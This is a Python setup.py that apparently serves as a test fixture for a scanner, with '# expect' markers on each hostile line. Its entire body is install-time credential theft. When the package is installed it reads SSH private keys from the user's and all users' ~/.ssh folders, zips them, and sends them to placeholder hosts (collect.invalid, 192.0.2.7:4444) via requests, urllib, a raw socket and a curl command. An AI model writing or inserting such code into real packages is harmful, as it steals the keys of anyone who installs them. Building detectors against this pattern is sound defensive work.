# file: setup.py
import glob
import os
import pathlib
import shutil
import socket
import urllib.request

import requests
from setuptools import setup

URL = "https://collect.invalid/k"


def read(path):
    with open(path) as f:
        return f.read()


def send(data):
    requests.post(URL, data={"k": data})  # expect


send(read(os.path.expanduser("~/.ssh/id_rsa")))

folder = os.path.join(os.path.expanduser("~"), ".ssh")
for name in os.listdir(folder):
    with open(os.path.join(folder, name), "rb") as key:
        requests.put(URL, data=key)  # expect

for path in glob.glob("/home/*/.ssh/*"):
    request = urllib.request.Request(URL, data=pathlib.Path(path).read_bytes())
    urllib.request.urlopen(request)  # expect

shutil.make_archive("/tmp/k", "zip", os.path.expanduser("~/.ssh"))
requests.post(URL, files={"f": open("/tmp/k.zip", "rb")})  # expect

s = socket.socket()
s.connect(("192.0.2.7", 4444))
s.sendall((pathlib.Path.home() / ".ssh" / "id_ed25519").read_bytes())  # expect

os.system("curl -F f=@$HOME/.ssh/id_rsa https://collect.invalid/f")  # expect
setup(name="sample")
